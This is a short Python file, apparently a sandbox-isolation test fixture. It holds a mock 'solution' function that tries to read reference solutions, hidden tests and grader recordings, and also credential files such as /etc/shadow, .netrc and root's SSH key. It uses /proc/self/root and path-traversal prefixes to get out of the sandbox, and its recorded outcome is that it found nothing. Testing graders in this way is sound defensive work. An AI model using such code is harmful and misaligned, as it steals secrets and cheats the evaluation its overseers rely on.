"""Opens the reference, the hidden checks, the recordings and the grader's own files by their paths.

Of the host's files, only the interpreter and the allowed libraries are in the sandbox.

Outcome: failed: found nothing
"""

PATHS = [
    "@COURSE@/solutions/spread.py",
    "@COURSE@/solutions/scaling.py",
    "@COURSE@/solutions/quiz.toml",
    "@COURSE@/solutions/misconceptions/spread.py",
    "@COURSE@/tests/hidden/test_spread.py",
    "@COURSE@/.grader/recordings/spread.bin",
    "@HOME@/.netrc",
    "@TEMPORARY@/notes.txt",
    "/etc/passwd",
    "/etc/shadow",
    "/root/.ssh/id_rsa",
    "/root/.bash_history",
]


def span(values):
    found = []
    for path in PATHS:
        for way in ("", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../.."):
            try:
                found.append(open(way + path, "rb").read().hex())
            except OSError:
                pass
    return " ".join(found) or "found nothing"
